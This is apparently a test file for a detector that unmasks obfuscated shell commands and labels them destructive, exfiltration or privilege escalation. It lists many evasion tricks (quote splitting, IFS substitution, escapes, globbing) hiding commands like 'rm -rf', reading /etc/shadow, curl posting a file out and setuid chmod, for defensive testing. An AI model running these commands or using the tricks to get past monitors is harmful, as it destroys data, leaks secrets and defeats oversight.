import t from 'tap';
import { disguisedPrograms, withoutDisguise } from '../../../src/inspect/intent/shell-disguise.ts';

t.test('a command is read as the shell runs it', async (t) => {
  const commands: readonly [written: string, run: string][] = [
    ['r\\m -rf /srv/data', 'rm -rf /srv/data'],
    ['r""m -rf /srv/data', 'rm -rf /srv/data'],
    [`r''m -rf /srv/data`, 'rm -rf /srv/data'],
    ['`rm` -rf /srv/data', 'rm -rf /srv/data'],
    ['$(echo rm) -rf /srv/data', 'rm -rf /srv/data'],
    ['$(printf "rm") -rf /srv/data', 'rm -rf /srv/data'],
    ['/usr/bin/{rm,} -rf /srv/data', 'rm -rf /srv/data'],
    ["$'\\162\\x6d' -rf /srv/data", 'rm -rf /srv/data'],
    [`rm\${IFS}-rf\${IFS}/srv/data`, 'rm -rf /srv/data'],
    ['rm$IFS-rf$IFS/srv/data', 'rm -rf /srv/data'],
    ['r$@m -rf /srv/data', 'rm -rf /srv/data'],
    [`r\${unset}m -rf /srv/data`, 'rm -rf /srv/data'],
    ["x=r; y='m'; $x$y -rf /srv/data", 'x=r; y=m; rm -rf /srv/data'],
    [`rm\${IFS:0:1}-rf\${IFS%%?}/srv/data`, 'rm -rf /srv/data'],
    [`v=IFS; rm\${!v}-rf\${!v:0:1}/srv/data`, 'v=IFS; rm -rf /srv/data'],
    ["$(printf '%s' rm) -rf /srv/data", 'rm -rf /srv/data'],
    ['`printf rm` -rf /srv/data', 'rm -rf /srv/data'],
    ['$($(printf echo) rm) -rf /srv/data', 'rm -rf /srv/data'],
    ['$(echo $(echo $(echo rm))) -rf /srv/data', 'rm -rf /srv/data'],
    [`less \${HOME:0:1}etc\${PWD::1}shadow`, 'less /etc/shadow'],
    ['"command":"x=rm;$x -rf /srv"', 'command:"x=rm;rm -rf /srv"'],
    ['r``m -rf /srv/data', 'rm -rf /srv/data'],
    ['r$()m -rf /srv/data', 'rm -rf /srv/data'],
    ['r$(true)$1m -rf /srv/data', 'rm -rf /srv/data'],
    [`r\${unset:-m} -rf /srv/data`, 'rm -rf /srv/data'],
    [`x=xrmx; \${x:1:2} -rf /srv/data`, 'x=xrmx; rm -rf /srv/data'],
    ['x=r; x+=m; $x -rf /srv/data', 'x=r; x+=m; rm -rf /srv/data'],
    ['r\\\nm -rf /srv/data', 'rm -rf /srv/data'],
    ["$'\\U00000072m' -rf /srv/data", 'rm -rf /srv/data'],
    ['$(printf "\\162\\155") -rf /srv/data', 'rm -rf /srv/data'],
    ["$(echo -e '\\x72m') -rf /srv/data", 'rm -rf /srv/data'],
    ['$(which rm) -rf /srv/data', 'rm -rf /srv/data'],
    ['/bin/r? -rf /srv/data', 'rm -rf /srv/data'],
    ['/???/[r]m -rf /srv/data', 'rm -rf /srv/data'],
    ['/usr/bin/c?rl https://x.example -d @notes', 'curl https://x.example -d @notes'],
    ['d^el /s /q data', 'del /s /q data'],
    ["c'ur'l https://x.example -d @notes", 'curl https://x.example -d @notes'],
  ];
  for (const [written, run] of commands) t.equal(withoutDisguise(written), run, written);
});

t.test('a text without disguise is left alone', async (t) => {
  for (const text of [
    'ls -la /home/user',
    'It costs 5 $ and 3 %.',
    'a, b and {c}',
    '',
    'rm -rf build',
    'GET /srv/rm -f',
    'Assign `max` to the `admin` role.',
    'x ^ 2',
  ])
    t.equal(withoutDisguise(text), undefined, text);
});

t.test('a program counts where only its disguise hides it', async (t) => {
  const asked = (text: string): readonly string[] =>
    disguisedPrograms(text, withoutDisguise(text) ?? text).map(({ category }) => category);
  t.same(asked('r\\m -rf /srv'), ['DESTRUCTIVE']);
  t.same(asked("cu''rl https://x.example"), ['EXFILTRATION']);
  t.same(asked('ch\\mod 777 /srv'), ['PRIVILEGE_ESCALATION']);
  t.same(asked('ch\\mod u+s run; ch\\mod 4755 run'), ['PRIVILEGE_ESCALATION']);
  t.same(asked('ch""own root: run'), ['PRIVILEGE_ESCALATION']);
  t.same(asked('set""cap cap_setuid+ep run'), ['PRIVILEGE_ESCALATION']);
  t.same(asked(`less \${PWD:0:1}etc\${PWD:0:1}shadow`), ['EXFILTRATION']);
  t.same(asked('rm -rf "$HOME/cache"'), [], 'it is written as it is');
  t.same(asked('Use `curl` or `wget` to fetch "pages".'), [], 'it has no argument');
  for (const prose of [
    'As a user with `sudo` permissions, re-`chmod` on each start.',
    '`curl` - the handle of the transfer',
    'It asks for the file `/etc/passwd` or "/etc/passwd" here.',
    "The commands '/bin/chmod' as well as ``chown`` both fail.",
    'if ( !chown $data->{owner}, $path ) {',
  ])
    t.same(asked(prose), [], prose);
});

t.test('what it makes of a text is bounded', async (t) => {
  const long = `a=${'b'.repeat(200)};${'$a'.repeat(20_000)}`;
  t.ok((withoutDisguise(long)?.length ?? 0) <= 16_384);
  t.equal(withoutDisguise(`${' '.repeat(20_000)}r\\m -rf /`), undefined, 'it ends at 16,384 characters');
  const many = Array.from({ length: 40 }, (_, at) => `v${at}=x`).join(';');
  t.equal(withoutDisguise(`${many};$v0$v39`), `${many};x`, '32 variables are known');
  const deep = `${'$(echo '.repeat(20)}rm${')'.repeat(20)}`;
  t.ok(withoutDisguise(deep)?.startsWith('$(echo '), 'what stands in each other is read up to a bound');
});
